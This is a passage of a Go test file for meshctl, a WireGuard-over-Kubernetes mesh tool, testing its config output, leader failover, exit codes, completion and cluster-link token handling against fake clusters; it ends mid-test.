package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"
	authenticationv1 "k8s.io/api/authentication/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	kubefake "k8s.io/client-go/kubernetes/fake"
	"k8s.io/client-go/rest"
	clienttesting "k8s.io/client-go/testing"
	"sigs.k8s.io/yaml"

	"meshd.io/meshd/pkg/clusterlink"
	"meshd.io/meshd/pkg/k8s/apis/meshd/v1alpha1"
	meshdfake "meshd.io/meshd/pkg/k8s/client/clientset/versioned/fake"
	"meshd.io/meshd/pkg/k8s/connect"
	"meshd.io/meshd/pkg/k8s/convert"
	"meshd.io/meshd/pkg/k8s/liveness"
	"meshd.io/meshd/pkg/mesh"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

// now is the fixed clock of the tests.
var now = time.Date(2026, 7, 1, 12, 0, 0, 0, time.UTC)

const server = "https://cluster1.example:6443"

// key returns a deterministic private key.
func key(seed byte) wgtypes.Key {
	b := bytes.Repeat([]byte{seed}, wgtypes.KeyLen)
	k, err := wgtypes.NewKey(b)
	if err != nil {
		panic(err)
	}
	// Clamp like a generated private key.
	k[0] &= 248
	k[31] = (k[31] & 127) | 64
	return k
}

func pub(seed byte) wgtypes.Key { return key(seed).PublicKey() }

type nodeSpec struct {
	name, region, internal, external, pod string
	key                                   byte // 0: no key published
	ann                                   map[string]string
}

func node(s nodeSpec) *corev1.Node {
	n := &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: s.name, Labels: map[string]string{}, Annotations: map[string]string{}},
		Spec:       corev1.NodeSpec{PodCIDR: s.pod, PodCIDRs: []string{s.pod}},
	}
	if s.region != "" {
		n.Labels[convert.DefaultTopologyLabel] = s.region
	}
	if s.internal != "" {
		n.Status.Addresses = append(n.Status.Addresses, corev1.NodeAddress{Type: corev1.NodeInternalIP, Address: s.internal})
	}
	if s.external != "" {
		n.Status.Addresses = append(n.Status.Addresses, corev1.NodeAddress{Type: corev1.NodeExternalIP, Address: s.external})
	}
	if s.key != 0 {
		n.Annotations[convert.AnnotationPublicKey] = pub(s.key).String()
	}
	for k, v := range s.ann {
		n.Annotations[k] = v
	}
	return n
}

func lease(nodeName string, renewed time.Time) *coordinationv1.Lease {
	rt := metav1.NewMicroTime(renewed)
	return &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: liveness.LeaseName(nodeName), Namespace: liveness.DefaultNamespace},
		Spec:       coordinationv1.LeaseSpec{RenewTime: &rt},
	}
}

func int32p(v int32) *int32 { return &v }

// fixture is a two-location cluster with two Peers:
//   - location eu: eu-1 (public IP, leader) and eu-2;
//   - location us: us-1 (the preferred leader, keepalive 25s, discovered
//     eu-1's endpoint), us-2 (preferred leader too but its Lease is stale
//     and a malformed keepalive annotation) and us-3 (no key yet: not a
//     member);
//   - Peer laptop (roaming, keepalive, preshared key), Peer office (a DNS
//     endpoint, resolved by the fake resolver) and Peer broken (bad key).
func fixture() (nodes []runtime.Object, leases []runtime.Object, peers []runtime.Object) {
	nodes = []runtime.Object{
		node(nodeSpec{name: "eu-1", region: "eu", internal: "192.168.1.1", external: "203.0.113.1", pod: "10.1.0.0/24", key: 1,
			ann: map[string]string{
				convert.AnnotationWireGuardIP:         "10.4.0.1",
				convert.AnnotationDiscoveredEndpoints: fmt.Sprintf(`{%q: "198.51.100.1:51820"}`, pub(3).String()),
			}}),
		node(nodeSpec{name: "eu-2", region: "eu", internal: "192.168.1.2", pod: "10.1.1.0/24", key: 2}),
		node(nodeSpec{name: "us-1", region: "us", internal: "192.168.2.1", external: "198.51.100.1", pod: "10.2.0.0/24", key: 3,
			ann: map[string]string{
				convert.AnnotationLeader:              "true",
				convert.AnnotationPersistentKeepalive: "25",
				convert.AnnotationDiscoveredEndpoints: fmt.Sprintf(`{%q: "203.0.113.1:51820"}`, pub(1).String()),
				convert.AnnotationAllowedLocationIPs:  "172.20.0.0/16",
			}}),
		node(nodeSpec{name: "us-2", region: "us", internal: "192.168.2.2", external: "198.51.100.2", pod: "10.2.1.0/24", key: 4,
			ann: map[string]string{convert.AnnotationLeader: "true", convert.AnnotationPersistentKeepalive: "soon"}}),
		node(nodeSpec{name: "us-3", region: "us", internal: "192.168.2.3", pod: "10.2.2.0/24"}),
	}
	leases = []runtime.Object{
		lease("eu-1", now.Add(-5*time.Second)),
		lease("eu-2", now.Add(-5*time.Second)),
		lease("us-1", now.Add(-5*time.Second)),
		lease("us-2", now.Add(-10*time.Minute)),
	}
	peers = []runtime.Object{
		&v1alpha1.Peer{
			ObjectMeta: metav1.ObjectMeta{Name: "laptop"},
			Spec: v1alpha1.PeerSpec{
				PublicKey:             pub(10).String(),
				AllowedIPs:            []string{"10.5.0.1/32"},
				PersistentKeepalive:   int32p(25),
				PresharedKeySecretRef: &v1alpha1.SecretKeyRef{Name: "laptop-psk", Namespace: "meshd-system", Key: "psk"},
			},
		},
		&v1alpha1.Peer{
			ObjectMeta: metav1.ObjectMeta{Name: "office"},
			Spec: v1alpha1.PeerSpec{
				PublicKey:  pub(11).String(),
				AllowedIPs: []string{"10.6.0.1/32", "172.30.0.0/16"},
				Endpoint:   &v1alpha1.PeerEndpoint{Host: "vpn.office.example", Port: 51821},
			},
		},
		// The API server would reject it; a CRD without validation would not.
		&v1alpha1.Peer{
			ObjectMeta: metav1.ObjectMeta{Name: "broken"},
			Spec:       v1alpha1.PeerSpec{PublicKey: "not-a-key", AllowedIPs: []string{"10.7.0.1/32"}},
		},
	}
	return nodes, leases, peers
}

func fakeResolve(_ context.Context, host string) ([]netip.Addr, error) {
	if host == "vpn.office.example" {
		return []netip.Addr{netip.MustParseAddr("2001:db8::10"), netip.MustParseAddr("192.0.2.10")}, nil
	}
	return nil, errors.New("no such host")
}

type result struct {
	code           int
	stdout, stderr string
}

// runMeshctl runs meshctl against fake clientsets.
func runMeshctl(t *testing.T, kube *kubefake.Clientset, md *meshdfake.Clientset, args ...string) result {
	t.Helper()
	return runMeshctlWith(t, kube, md, nil, args...)
}

// runMeshctlWith is runMeshctl with the env adjusted by adjust (if not nil).
func runMeshctlWith(t *testing.T, kube *kubefake.Clientset, md *meshdfake.Clientset, adjust func(*env), args ...string) result {
	t.Helper()
	var stdout, stderr bytes.Buffer
	e := &env{
		stdout: &stdout,
		stderr: &stderr,
		newClients: func(_, _ string) (*connect.Clients, error) {
			return &connect.Clients{Kube: kube, Meshd: md, Config: &rest.Config{Host: server}}, nil
		},
		now:     func() time.Time { return now },
		resolve: fakeResolve,
	}
	if adjust != nil {
		adjust(e)
	}
	code := e.execute(args)
	return result{code, stdout.String(), stderr.String()}
}

func fixtureClients() (*kubefake.Clientset, *meshdfake.Clientset) {
	nodes, leases, peers := fixture()
	return kubefake.NewClientset(append(nodes, leases...)...), fixtureMeshd(peers)
}

func fixtureMeshd(peers []runtime.Object) *meshdfake.Clientset {
	return meshdfake.NewSimpleClientset(peers...)
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (run go test ./cmd/meshctl -update): %v", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from %s:\n--- got\n%s\n--- want\n%s", name, path, got, want)
	}
}

func TestGolden(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		// wantStderr must appear in stderr.
		wantStderr string
	}{
		{"showconf-node-leader", []string{"showconf", "node", "eu-1"}, ""},
		{"showconf-node-leader-yaml", []string{"showconf", "node", "us-1", "-o", "yaml"}, ""},
		{"showconf-node-leader-json", []string{"showconf", "node", "eu-1", "-o", "json"}, ""},
		{"showconf-node-member", []string{"showconf", "node", "eu-2"}, "node eu-2 is not the leader of location \"eu\" (the leader is eu-1)"},
		{"showconf-node-as-peer", []string{"showconf", "node", "eu-1", "--as-peer", "--allowed-ips", "10.96.0.0/12"}, ""},
		{"showconf-node-as-peer-prefix", []string{"showconf", "node", "us-1", "--as-peer", "--peer-name-prefix", "cluster1-", "--label", "meshd.io/from=cluster1", "-o", "json"}, ""},
		{"showconf-node-as-peer-wireguard", []string{"showconf", "node", "us-1", "--as-peer", "-o", "wireguard", "--allowed-ips", "10.96.0.0/12,10.97.0.0/16"}, ""},
		{"showconf-peer-laptop", []string{"showconf", "peer", "laptop"}, ""},
		{"showconf-peer-office", []string{"showconf", "peer", "office"}, ""},
		{"showconf-peer-office-yaml", []string{"showconf", "peer", "office", "-o", "yaml"}, ""},
		{"graph", []string{"graph"}, ""},
		{"status", []string{"status"}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			kube, md := fixtureClients()
			r := runMeshctl(t, kube, md, tc.args...)
			wantCode := 0
			if tc.name == "status" {
				// The fixture has problems: status lists them and exits 1.
				wantCode, tc.wantStderr = 1, "meshctl: status lists 2 problems\n"
			}
			if r.code != wantCode {
				t.Fatalf("exit code %d, want %d, stderr:\n%s", r.code, wantCode, r.stderr)
			}
			if tc.wantStderr == "" && r.stderr != "" {
				t.Errorf("unexpected stderr:\n%s", r.stderr)
			}
			if !strings.Contains(r.stderr, tc.wantStderr) {
				t.Errorf("stderr %q does not contain %q", r.stderr, tc.wantStderr)
			}
			golden(t, tc.name, r.stdout)
		})
	}
}

// A node carrying no WireGuard traffic prints nothing for --as-peer, says
// why on stderr and succeeds, so `... | kubectl apply -f -` loops stay
// correct as leaders change.
func TestAsPeerNonLeaderPrintsNothing(t *testing.T) {
	for node, why := range map[string]string{
		"eu-2": `node eu-2 is not the leader of location "eu" (the leader is eu-1): it carries no WireGuard traffic; nothing to print`,
		"us-2": `node us-2 is not the leader of location "us" (the leader is us-1)`,
		"us-3": `node us-3 has not published a WireGuard public key`,
	} {
		for _, o := range []string{"yaml", "json", "wireguard"} {
			kube, md := fixtureClients()
			r := runMeshctl(t, kube, md, "showconf", "node", node, "--as-peer", "-o", o, "--allowed-ips", "10.96.0.0/12")
			if r.code != 0 || r.stdout != "" || !strings.Contains(r.stderr, why) {
				t.Errorf("%s -o %s: code %d, stdout %q, stderr %q; want 0, nothing, %q", node, o, r.code, r.stdout, r.stderr, why)
			}
		}
	}
}

// The leader changes when the preferred leader's Lease goes stale: us-2
// leads once us-1 is dead and us-2 alive.
func TestAsPeerFollowsLiveness(t *testing.T) {
	nodes, _, peers := fixture()
	leases := []runtime.Object{lease("us-1", now.Add(-10*time.Minute)), lease("us-2", now.Add(-time.Second))}
	kube, md := kubefake.NewClientset(append(nodes, leases...)...), meshdfake.NewSimpleClientset(peers...)
	r := runMeshctl(t, kube, md, "showconf", "node", "us-2", "--as-peer")
	if r.code != 0 || !strings.Contains(r.stdout, "name: us-2") {
		t.Fatalf("us-2 should lead: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	}
	r = runMeshctl(t, kube, md, "showconf", "node", "us-1", "--as-peer")
	if r.code != 0 || r.stdout != "" {
		t.Fatalf("us-1 should not lead: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	}
}

// Applying `showconf node X --as-peer -o yaml` and reading it back gives
// the Peer the planner computes with Topology.SegmentAsPeer (plus
// --allowed-ips).
func TestAsPeerRoundTrip(t *testing.T) {
	extra := []netip.Prefix{netip.MustParsePrefix("10.96.0.0/12")}
	for _, name := range []string{"eu-1", "us-1"} {
		for _, format := range []string{"yaml", "json"} {
			kube, md := fixtureClients()
			r := runMeshctl(t, kube, md, "showconf", "node", name, "--as-peer", "-o", format, "--allowed-ips", "10.96.0.0/12")
			if r.code != 0 {
				t.Fatalf("%s: exit %d: %s", name, r.code, r.stderr)
			}
			var obj v1alpha1.Peer
			if err := yaml.UnmarshalStrict([]byte(r.stdout), &obj); err != nil {
				t.Fatalf("%s -o %s: decoding:\n%s\n%v", name, format, r.stdout, err)
			}
			if obj.APIVersion != "meshd.io/v1alpha1" || obj.Kind != "Peer" {
				t.Errorf("%s: apiVersion/kind %s/%s", name, obj.APIVersion, obj.Kind)
			}
			got, err := convert.PeerFromObject(&obj, nil)
			if err != nil {
				t.Fatalf("%s: the printed Peer is invalid: %v", name, err)
			}

			// The expected Peer, straight from the planner.
			nodes, leases, _ := fixture()
			var objs []*corev1.Node
			for _, n := range nodes {
				objs = append(objs, n.(*corev1.Node))
			}
			var ls []*coordinationv1.Lease
			for _, l := range leases {
				ls = append(ls, l.(*coordinationv1.Lease))
			}
			live, _ := leaseLiveness(ls, 40*time.Second, now)
			in := convert.NewMeshInput(context.Background(), objs, nil, convert.MeshInputOptions{})
			topo, err := mesh.NewTopology(in.Nodes, nil, mesh.Local{Live: live}, mesh.Options{MeshCIDRs: []netip.Prefix{netip.MustParsePrefix("10.4.0.0/16")}})
			if err != nil {
				t.Fatal(err)
			}
			want, ok := topo.SegmentAsPeer(name)
			if !ok {
				t.Fatalf("%s does not lead", name)
			}
			want.AllowedIPs = append(want.AllowedIPs, extra...)
			if !peersEqual(got, want) {
				t.Errorf("%s -o %s round trip:\n got  %+v\n want %+v", name, format, got, want)
			}
		}
	}
}

func peersEqual(a, b mesh.Peer) bool {
	return a.Name == b.Name && a.PublicKey == b.PublicKey && slices.Equal(a.AllowedIPs, b.AllowedIPs) &&
		a.Endpoint == b.Endpoint && a.PersistentKeepalive == b.PersistentKeepalive && (a.PresharedKey == nil) == (b.PresharedKey == nil)
}

// Keepalives are whole seconds everywhere (never nanoseconds).
func TestKeepaliveSeconds(t *testing.T) {
	kube, md := fixtureClients()
	r := runMeshctl(t, kube, md, "showconf", "node", "us-1", "--as-peer", "-o", "json")
	var obj map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &obj); err != nil {
		t.Fatal(err)
	}
	if ka := obj["spec"].(map[string]any)["persistentKeepalive"]; ka != float64(25) {
		t.Errorf("persistentKeepalive = %v, want 25", ka)
	}
	r = runMeshctl(t, kube, md, "showconf", "peer", "laptop")
	if !strings.Contains(r.stdout, "PersistentKeepalive = 25\n") {
		t.Errorf("peer config lacks PersistentKeepalive = 25:\n%s", r.stdout)
	}
}

func TestErrors(t *testing.T) {
	kube, md := fixtureClients()
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"showconf", "node", "nope"}, 1, `node "nope" not found; known nodes: eu-1, eu-2, us-1, us-2, us-3`},
		{[]string{"showconf", "peer", "nope"}, 1, `peer "nope" not found; known peers: broken, laptop, office`},
		{[]string{"showconf", "peer", "broken"}, 1, `Peer broken is not usable, meshd ignores it: converting peer "broken": spec.publicKey "not-a-key" is not a base64-encoded 32-byte WireGuard key`},
		{[]string{"showconf", "node"}, 2, "wants exactly one argument, NAME"},
		{[]string{"showconf", "node", "eu-1", "-o", "xml"}, 2, `-o "xml": want one of [wireguard yaml json]`},
		{[]string{"showconf", "node", "eu-1", "--allowed-ips", "10.0.0.0/8"}, 2, "--allowed-ips, --peer-name-prefix and --label need --as-peer"},
		{[]string{"showconf", "node", "eu-1", "--as-peer", "--label", "nokey"}, 2, `--label: "nokey": want KEY=VALUE`},
		{[]string{"showconf", "node", "eu-1", "--as-peer", "--label", "a=b c"}, 2, `--label: value "b c"`},
		{[]string{"showconf", "node", "eu-1", "--as-peer", "--allowed-ips", "bogus"}, 2, `--allowed-ips: "bogus" is not a CIDR`},
		{[]string{"showconf", "node", "eu-1", "--as-peer", "--peer-name-prefix", "Bad_"}, 2, `Peer name "Bad_eu-1"`},
		{[]string{"--mesh-granularity", "rack", "status"}, 2, `--mesh-granularity "rack": want location or full`},
		{[]string{"--mesh-cidr", "10.4.0.0/16,10.5.0.0/16", "status"}, 2, "at most one IPv4 and one IPv6"},
		{[]string{"status", "--bogus"}, 2, "unknown flag: --bogus"},
		{[]string{"graph", "-o", "png"}, 2, `-o "png": want one of [dot svg]`},
	} {
		r := runMeshctl(t, kube, md, tc.args...)
		if r.code != tc.code || !strings.Contains(r.stderr, tc.want) || r.stdout != "" {
			t.Errorf("meshctl %v: code %d, stdout %q, stderr %q; want code %d and %q", tc.args, r.code, r.stdout, r.stderr, tc.code, tc.want)
		}
	}
}

// docs/meshctl.md: "2 bad invocation". An unknown command or an extra
// argument exited 1, and a typo in a subcommand of showconf or completion
// printed the help on stdout and exited 0, so `meshctl showconf nodes eu-1
// > wg.conf` succeeded and wrote help text into wg.conf.
func TestBadInvocationExitCodes(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"bogus"}, `unknown command "bogus" for "meshctl" (see meshctl --help)`},
		{[]string{"stauts"}, `unknown command "stauts" for "meshctl" (did you mean status? see meshctl --help)`},
		{[]string{"status", "extra"}, `meshctl status takes no arguments, got "extra" (see meshctl status --help)`},
		{[]string{"graph", "extra"}, "meshctl graph takes no arguments"},
		{[]string{"version", "extra"}, "meshctl version takes no arguments"},
		{[]string{"check", "extra"}, "meshctl check takes no arguments"},
		{[]string{"link", "extra"}, "meshctl link takes no arguments"},
		{[]string{"unlink", "extra"}, "meshctl unlink takes no arguments"},
		{[]string{"diagnose", "eu-1", "eu-2"}, "meshctl diagnose wants exactly one argument, NODE"},
		{[]string{"rotate-key"}, "meshctl rotate-key wants exactly one argument, NODE"},
		{[]string{"showconf", "nodes", "eu-1"}, `unknown command "nodes" for "meshctl showconf" (did you mean node? see meshctl showconf --help)`},
		{[]string{"showconf", "bogus"}, `unknown command "bogus" for "meshctl showconf"`},
		{[]string{"completion", "bogus"}, `unknown command "bogus" for "meshctl completion"`},
		{[]string{"completion", "bash", "extra"}, `unknown command "extra" for "meshctl completion bash" (see meshctl completion bash --help)`},
		{[]string{"help", "bogus"}, `unknown help topic "bogus" (see meshctl --help)`},
		{[]string{"help", "showconf", "nodes"}, `unknown help topic "showconf nodes"`},
	} {
		kube, md := fixtureClients()
		r := runMeshctl(t, kube, md, tc.args...)
		if r.code != 2 || r.stdout != "" || !strings.Contains(r.stderr, tc.want) {
			t.Errorf("meshctl %v: exit %d, stdout %q, stderr %q; want exit 2, nothing on stdout and %q", tc.args, r.code, r.stdout, r.stderr, tc.want)
		}
	}
	// Without an argument, a command that groups others prints its help.
	for _, args := range [][]string{{}, {"showconf"}, {"completion"}, {"help"}, {"help", "showconf", "node"}} {
		kube, md := fixtureClients()
		if r := runMeshctl(t, kube, md, args...); r.code != 0 || !strings.Contains(r.stdout, "Usage:") || r.stderr != "" {
			t.Errorf("meshctl %v: exit %d, stdout %q, stderr %q; want its help", args, r.code, r.stdout, r.stderr)
		}
	}
}

// docs/meshctl.md: an unknown node is a failure (exit 1) whose message
// names the known nodes, for every command that takes one.
func TestUnknownNode(t *testing.T) {
	for _, args := range [][]string{
		{"showconf", "node", "nope"},
		{"showconf", "node", "nope", "--as-peer"},
		{"diagnose", "nope"},
		{"check", "--from", "nope"},
		{"check", "--to", "nope"},
		{"rotate-key", "nope"},
	} {
		kube, md := fixtureClients()
		r := runMeshctl(t, kube, md, args...)
		want := `meshctl: node "nope" not found; known nodes: eu-1, eu-2, us-1, us-2, us-3` + "\n"
		if r.code != 1 || !strings.HasSuffix(r.stderr, want) || r.stdout != "" {
			t.Errorf("meshctl %v: exit %d, stdout %q, stderr %q; want exit 1 and %q", args, r.code, r.stdout, r.stderr, want)
		}
	}
}

func TestMissingCRD(t *testing.T) {
	kube, md := fixtureClients()
	md.PrependReactor("list", "peers", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, apierrors.NewNotFound(v1alpha1.Resource("peers"), "")
	})
	r := runMeshctl(t, kube, md, "status")
	want := "Peer CRD not installed on " + server + ": kubectl apply -f manifests/crds/"
	if r.code != 1 || !strings.Contains(r.stderr, want) {
		t.Errorf("code %d stderr %q; want 1 and %q", r.code, r.stderr, want)
	}
}

func TestUnreachableAPI(t *testing.T) {
	kube, md := fixtureClients()
	kube.PrependReactor("list", "nodes", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, errors.New("dial tcp 127.0.0.1:6443: connect: connection refused")
	})
	r := runMeshctl(t, kube, md, "status")
	want := "listing Nodes: cannot reach the API server " + server
	if r.code != 1 || !strings.Contains(r.stderr, want) {
		t.Errorf("code %d stderr %q; want 1 and %q", r.code, r.stderr, want)
	}
}

func TestLeasesForbidden(t *testing.T) {
	kube, md := fixtureClients()
	kube.PrependReactor("list", "leases", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, apierrors.NewForbidden(coordinationv1.Resource("leases"), "", errors.New("no"))
	})
	r := runMeshctl(t, kube, md, "showconf", "node", "us-1", "--as-peer")
	if r.code != 0 || !strings.Contains(r.stderr, "cannot read the heartbeat Leases in namespace meshd-system (forbidden); assuming every node is live") {
		t.Errorf("code %d stderr %q", r.code, r.stderr)
	}
}

func TestGraphSVGWithoutDot(t *testing.T) {
	old := lookPath
	lookPath = func(string) (string, error) { return "", exec.ErrNotFound }
	defer func() { lookPath = old }()
	kube, md := fixtureClients()
	r := runMeshctl(t, kube, md, "graph", "-o", "svg")
	if r.code != 1 || r.stdout != "" || !strings.Contains(r.stderr, "-o svg needs Graphviz's dot in PATH") {
		t.Errorf("code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	}
}

func TestCompletionAndHelp(t *testing.T) {
	kube, md := fixtureClients()
	for _, sh := range []string{"bash", "zsh", "fish"} {
		r := runMeshctl(t, kube, md, "completion", sh)
		if r.code != 0 || !strings.Contains(r.stdout, "meshctl") {
			t.Errorf("completion %s: code %d, %d bytes", sh, r.code, len(r.stdout))
		}
	}
	for _, args := range [][]string{{"--help"}, {"showconf", "--help"}, {"showconf", "node", "--help"}, {"showconf", "peer", "--help"}, {"graph", "--help"}, {"status", "--help"}} {
		r := runMeshctl(t, kube, md, args...)
		if r.code != 0 || !strings.Contains(r.stdout, "Usage:") {
			t.Errorf("%v: code %d stdout %q", args, r.code, r.stdout)
		}
	}
	// Node names complete from the cluster.
	r := runMeshctl(t, kube, md, "__complete", "showconf", "node", "")
	for _, n := range []string{"eu-1", "us-3"} {
		if !strings.Contains(r.stdout, n+"\n") {
			t.Errorf("completion of node names lacks %s:\n%s", n, r.stdout)
		}
	}
	r = runMeshctl(t, kube, md, "__complete", "showconf", "peer", "")
	if !strings.Contains(r.stdout, "laptop\n") {
		t.Errorf("completion of peer names lacks laptop:\n%s", r.stdout)
	}
}

// wg setconf accepts the generated configurations. Without a device to
// apply them to, wg parses the whole file first: a parse error is reported
// as such, a valid file fails only at "Unable to modify interface".
func TestWGSetconfParses(t *testing.T) {
	wg, err := exec.LookPath("wg")
	if err != nil {
		t.Skip("wg not installed")
	}
	kube, md := fixtureClients()
	for _, args := range [][]string{
		{"showconf", "peer", "laptop"},
		{"showconf", "peer", "office"},
		{"showconf", "node", "eu-1"},
		{"showconf", "node", "us-1"},
		{"showconf", "node", "eu-2"},
		{"showconf", "node", "us-1", "--as-peer", "-o", "wireguard"},
	} {
		r := runMeshctl(t, kube, md, args...)
		f := filepath.Join(t.TempDir(), "wg.conf")
		if err := os.WriteFile(f, []byte(r.stdout), 0o600); err != nil {
			t.Fatal(err)
		}
		out, _ := exec.Command(wg, "setconf", "meshctl-none0", f).CombinedOutput()
		if !strings.Contains(string(out), "Unable to modify interface") {
			t.Errorf("%v: wg setconf did not parse the output:\n%s\n%s", args, out, r.stdout)
		}
	}
}

// A leader reachable only at a private address is printed with a warning.
func TestAsPeerPrivateEndpointWarns(t *testing.T) {
	n := node(nodeSpec{name: "solo", internal: "192.168.9.1", pod: "10.9.0.0/24", key: 7})
	kube, md := kubefake.NewClientset(n), meshdfake.NewSimpleClientset()
	r := runMeshctl(t, kube, md, "showconf", "node", "solo", "--as-peer")
	want := "meshctl: warning: node solo's endpoint 192.168.9.1:51820 is a private address; if the other cluster cannot reach it, set the meshd.io/force-endpoint annotation on the node"
	if r.code != 0 || !strings.Contains(r.stdout, "host: 192.168.9.1") || !strings.Contains(r.stderr, want) {
		t.Errorf("code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	}
}

func TestOutsideMeshCIDRNoted(t *testing.T) {
	nodes := []mesh.Node{
		{Name: "in", WireGuardIPs: []netip.Addr{netip.MustParseAddr("10.4.0.7")}},
		{Name: "out", WireGuardIPs: []netip.Addr{netip.MustParseAddr("10.5.0.3")}},
	}
	notes := outsideMeshCIDR(nodes, []netip.Prefix{netip.MustParsePrefix("10.4.0.0/16")})
	if len(notes) != 1 || !strings.Contains(notes[0], "node out") || !strings.Contains(notes[0], "10.5.0.3") || !strings.Contains(notes[0], "--mesh-cidr") {
		t.Fatalf("want one note naming node out, its IP and the flag, got %q", notes)
	}
}

// TestLinkRefusesBadPairs: linking a cluster to itself is a usage error and
// overlapping mesh ranges are refused before anything is written.
func TestLinkRefusesBadPairs(t *testing.T) {
	kube, md := fixtureClients()
	r := runMeshctl(t, kube, md, "link", "--from-kubeconfig", "k1", "--from-name", "east", "--to-kubeconfig", "k2", "--to-name", "east")
	if r.code != 2 || !strings.Contains(r.stderr, `both clusters are named "east"`) {
		t.Fatalf("same names: exit %d, stderr %q", r.code, r.stderr)
	}
	r = runMeshctl(t, kube, md, "link", "--from-kubeconfig", "k1", "--from-name", "east", "--to-kubeconfig", "k2", "--to-name", "west",
		"--from-mesh-cidr", "10.4.0.0/16", "--to-mesh-cidr", "10.4.0.0/16")
	if r.code != 1 || !strings.Contains(r.stderr, "10.4.0.0/16 of east overlaps 10.4.0.0/16 of west") {
		t.Fatalf("the same mesh CIDR given on both sides: exit %d, stderr %q", r.code, r.stderr)
	}
	if len(kube.Actions()) != 0 {
		t.Fatalf("a refused link wrote to the cluster: %v", kube.Actions())
	}
}

// TestLinkTrust: a cluster whose kubeconfig has no CA is refused before
// anything is written unless --insecure-skip-tls-verify is given; the link
// Secret records the ranges the linked cluster may claim (its mesh and
// service CIDRs and the flag's ranges).
func TestLinkTrust(t *testing.T) {
	kube, md := fixtureClients()
	args := []string{"link", "--from-kubeconfig", "k1", "--from-name", "east", "--from-mesh-cidr", "10.4.0.0/16",
		"--to-kubeconfig", "k2", "--to-name", "west", "--to-mesh-cidr", "10.5.0.0/16", "--one-way",
		"--from-service-cidr", "10.96.0.0/12", "--from-allowed-cidr", "10.42.0.0/16,198.51.100.0/24"}
	r := runMeshctl(t, kube, md, args...)
	if r.code != 1 || !strings.Contains(r.stderr, "cluster east") || !strings.Contains(r.stderr, "--insecure-skip-tls-verify") {
		t.Fatalf("no CA: exit %d, stderr %q", r.code, r.stderr)
	}
	if len(kube.Actions()) != 0 {
		t.Fatalf("a refused link wrote to the cluster: %v", kube.Actions())
	}
	if _, err := kube.CoreV1().Namespaces().Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "meshd-system"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	issued := 0
	kube.PrependReactor("create", "serviceaccounts", func(a clienttesting.Action) (bool, runtime.Object, error) {
		if a.GetSubresource() != "token" {
			return false, nil, nil
		}
		issued++
		return true, &authenticationv1.TokenRequest{Status: authenticationv1.TokenRequestStatus{
			Token: fmt.Sprintf("tok-%d", issued), ExpirationTimestamp: metav1.NewTime(now.Add(time.Duration(issued) * 24 * time.Hour))}}, nil
	})
	r = runMeshctl(t, kube, md, append(args, "--insecure-skip-tls-verify")...)
	if r.code != 0 {
		t.Fatalf("--insecure-skip-tls-verify: exit %d, stderr %q", r.code, r.stderr)
	}
	s, err := kube.CoreV1().Secrets("meshd-system").Get(context.Background(), "meshd-link-east", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := s.Annotations[clusterlink.AnnotationRemoteAllowedCIDRs], "10.4.0.0/16,10.42.0.0/16,10.96.0.0/12,198.51.100.0/24"; got != want {
		t.Errorf("allowed ranges %q, want %q", got, want)
	}
	if !strings.Contains(r.stdout, "east may claim 10.4.0.0/16,10.42.0.0/16,10.96.0.0/12,198.51.100.0/24") {
		t.Errorf("output does not say what east may claim: %q", r.stdout)
	}
	if !strings.Contains(string(s.Data[clusterlink.LinkKubeconfigKey]), "insecure-skip-tls-verify: true") {
		t.Errorf("the link kubeconfig of a cluster without CA must say so:\n%s", s.Data[clusterlink.LinkKubeconfigKey])
	}
	if exp, ok := clusterlink.LinkTokenExpiry(s); !ok || !exp.Equal(now.Add(24*time.Hour).Truncate(time.Second)) {
		t.Errorf("token expiry %v %v, want %v", exp, ok, now.Add(24*time.Hour))
	}

	// --refresh: a new token; the recorded ranges and settings stay (the
	// flags' defaults would overlap and are ignored).
	r = runMeshctl(t, kube, md, "link", "--refresh", "--one-way", "--from-kubeconfig", "k1", "--from-name", "east", "--to-kubeconfig", "k2", "--to-name", "west")
	if r.code != 0 || !strings.Contains(r.stdout, "renewed the token cluster west uses to read cluster east") {
		t.Fatalf("--refresh: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	s2, err := kube.CoreV1().Secrets("meshd-system").Get(context.Background(), "meshd-link-east", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(s2.Data[clusterlink.LinkKubeconfigKey]), "tok-2") || s2.Annotations[clusterlink.AnnotationRemoteAllowedCIDRs] != s.Annotations[clusterlink.AnnotationRemoteAllowedCIDRs] ||
		s2.Annotations[clusterlink.AnnotationRemoteMeshCIDRs] != "10.4.0.0/16" {
